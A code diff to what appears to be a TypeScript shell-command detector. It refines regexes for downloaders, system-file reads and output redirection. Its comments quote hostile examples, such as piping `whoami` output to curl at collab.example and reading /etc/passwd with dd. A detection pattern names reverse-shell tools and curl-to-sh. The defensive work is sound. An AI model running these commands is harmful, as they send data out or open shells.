@@ -119,7 +119,9 @@ function commandAt(v: string, i: number, weak: boolean, listedOnly = false): boo
     if (next !== -1 && wrappedCommand(v, next)) return true
   }
   // (twenty-fifth round) a downloader given a URL (`whoami | curl https://collab.example -d@-`): its argument
-  const hasArgument = k > j && k < v.length && (shellArgument(v, k) || (DOWNLOADERS.has(word) && DOWNLOAD_URL.test(v.slice(k, k + 9))))
+  // (review: between words, `| Linux | curl https://… |` in a Markdown table, `Download | wget https://…` in a title, only with an
+  // option after the URL, as an exfiltration sends its data: `-d@-`)
+  const hasArgument = k > j && k < v.length && (shellArgument(v, k) || (DOWNLOADERS.has(word) && DOWNLOAD_URL.test(v.slice(k, k + 9)) && (!weak || URL_THEN_OPTION.test(v.slice(k, k + 300)))))
   const ends = commandEnds(v, k)
   // the shell's no-ops run nothing and read nothing (a TypeScript union's `| false | undefined`); nor does an echo of an
   // empty string, a script's way to ignore a failure (`svelte-kit sync || echo ''`; fifteenth round)
@@ -223,6 +225,8 @@ export function someCapture(re: RegExp, v: string, test: (captured: string) => b
 const NETWORK_PROBES = new Set(['ping', 'nslookup', 'host', 'dig'])
 const DOWNLOADERS = new Set(['curl', 'wget', 'curl.exe', 'wget.exe'])
 const DOWNLOAD_URL = /^(?:https?|ftp):\/\/\w/
+/** a URL then an option: `https://collab.example/ -d@-` */
+const URL_THEN_OPTION = /^[^\s|;&]{1,250}[ \t]{1,4}-/
 /** An empty string and the end of the command (`echo ''`, `echo ""`). */
 const EMPTY_ECHO = /^(?:''|"")[ \t]{0,4}(?:$|[;|&)\n])/
 const MARKER = /^[a-z0-9]{1,30}_[a-z0-9_]{1,40}[ \t]{0,4}|^[a-z]{3,8}\d{2,8}[ \t]{0,4}/
@@ -545,7 +549,8 @@ const PROGRAM_PATH = /^\/(?:usr\/(?:local\/)?)?s?bin\/[a-z][\w.-]{0,30}$/
 /** Listing and reading programs: a command line on their own only when aimed at the system's files. */
 const READERS = new Set(['ls', 'dir', 'cat', 'type', 'more', 'head', 'tail', 'tac', 'nl', 'find', 'stat', 'dd'])
 // (twenty-fifth round: dd's input file, `dd if=/etc/passwd of=/tmp/x`)
-const READS_SYSTEM = /^(?:\s+-{1,2}[\w-]+)*\s+(?:if=)?(?:\/(?:(?:etc|proc|tmp|var|home|root|usr|bin|opt|dev|sys|boot)\b|\s|$)|[a-z]:[\\/]|%\w+%)/
+// (review: not a device, `dd if=/dev/zero of=/swapfile`, a swap file's recipe)
+const READS_SYSTEM = /^(?:\s+-{1,2}[\w-]+)*\s+(?:if=(?!\/dev\/))?(?:\/(?:(?:etc|proc|tmp|var|home|root|usr|bin|opt|dev|sys|boot)\b|\s|$)|[a-z]:[\\/]|%\w+%)/
 
 function bareArguments(line: string): boolean {
   const words = line.split(/[ \t]+/)
@@ -599,8 +604,8 @@ function commandLines(text: string): boolean {
   }
   return true
 }
-/** blanks, then a redirection of output or a pipe, then a file or a program */
-const OUTPUT_REDIRECTED = /^[ \t]{1,4}(?:>{1,2}|\|)[ \t]{0,4}[\w/.~$]/
+/** blanks, then a redirection of output or a pipe, then a file or a program (review: not a number, `` `id` > 0 `` compares) */
+const OUTPUT_REDIRECTED = /^[ \t]{1,4}(?:>{1,2}[ \t]{0,4}[a-zA-Z_/.~$]|\|[ \t]{0,4}[\w/.~$])/
 const SUBSTITUTION_NEIGHBOUR = new Set([...'abcdefghijklmnopqrstuvwxyz0123456789_=;|&$\'"'].map((c) => c.charCodeAt(0)))
 
 /** Where the separator of an injected command is, or -1. */
@@ -937,4 +942,4 @@ const PROGRAM_LINE = /^[ \t]{0,40}(?:\[\[[ \t][^\n]{0,280}[ \t]\]\][ \t]{0,4}(?:
 // (seventeenth round) a timing oracle: a test whose two branches only sleep, for different times (`then sleep 0; else sleep 5`)
 export const PROGRAM_ATTACK = /\bthen[ \t]{1,4}sleep[ \t]{1,4}\d{1,3}[ \t]{0,4}[;\n][ \t]{0,8}else[ \t]{1,4}sleep[ \t]{1,4}\d{1,3}\b|\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat)[ \t][^\n]{0,100}?[ \t]-[a-z]{0,3}[ec]\b|\bmkfifo\b[^\n]{0,100}?\b(?:nc|ncat|netcat|telnet)\b|\bsocat\b[^\n]{0,100}?\bexec:|\b(?:curl|wget|fetch)\b[^\n|]{0,300}\|[ \t]{0,4}(?:sudo[ \t]{1,4})?(?:ba|z|da|k|c|tc|fi)?sh\b/
 /** The shell judge's patterns, for the ReDoS checks. */
-export const SHELL_PATTERNS: readonly RegExp[] = [PYTHON_IMPORT, OUTPUT_REDIRECTED, DOWNLOAD_URL, ANSI_C_WORD, LEADING_SUBSHELLS, VERSION_ONLY, SHORT_TOKEN, TRAILING_COMMENT, GLUED_INPUT, ...Object.values(RUNS_NEXT), BRACE_PROGRAM, IFS_BLANK, IFS_BLANKS, WORD_BREAKS, HOST_NAME, APPENDED, APPENDED_SUBSTITUTION, SENTENCE, TRAILING_SEPARATOR, ONLY_OPTIONS, CD_CHAIN, ACCESSOR, NO_OPS, QUOTE_SPLIT, SEPARATOR, GLOB_PATH, GLOB_CHAR, STAR_SEGMENT, CMD_VARIABLE, PROGRAM_PATH, BLOCK_PARAMETERS, BATCH, BATCH_CODE, MAIL_COMMAND, PROGRAM_LINE, PROGRAM_CONTROL, PROGRAM_ATTACK, SHEBANG, INDENTED, CLOSING, MARKER, EMPTY_ECHO, HOST_ARGUMENT, TYPOGRAPHIC_OPTION, ESCAPE_INTRODUCERS, PLUS_BLANK, PLUSES, BRACE_LIST, SHELL_TOKEN, READS_SYSTEM]
+export const SHELL_PATTERNS: readonly RegExp[] = [PYTHON_IMPORT, OUTPUT_REDIRECTED, DOWNLOAD_URL, URL_THEN_OPTION, ANSI_C_WORD, LEADING_SUBSHELLS, VERSION_ONLY, SHORT_TOKEN, TRAILING_COMMENT, GLUED_INPUT, ...Object.values(RUNS_NEXT), BRACE_PROGRAM, IFS_BLANK, IFS_BLANKS, WORD_BREAKS, HOST_NAME, APPENDED, APPENDED_SUBSTITUTION, SENTENCE, TRAILING_SEPARATOR, ONLY_OPTIONS, CD_CHAIN, ACCESSOR, NO_OPS, QUOTE_SPLIT, SEPARATOR, GLOB_PATH, GLOB_CHAR, STAR_SEGMENT, CMD_VARIABLE, PROGRAM_PATH, BLOCK_PARAMETERS, BATCH, BATCH_CODE, MAIL_COMMAND, PROGRAM_LINE, PROGRAM_CONTROL, PROGRAM_ATTACK, SHEBANG, INDENTED, CLOSING, MARKER, EMPTY_ECHO, HOST_ARGUMENT, TYPOGRAPHIC_OPTION, ESCAPE_INTRODUCERS, PLUS_BLANK, PLUSES, BRACE_LIST, SHELL_TOKEN, READS_SYSTEM]
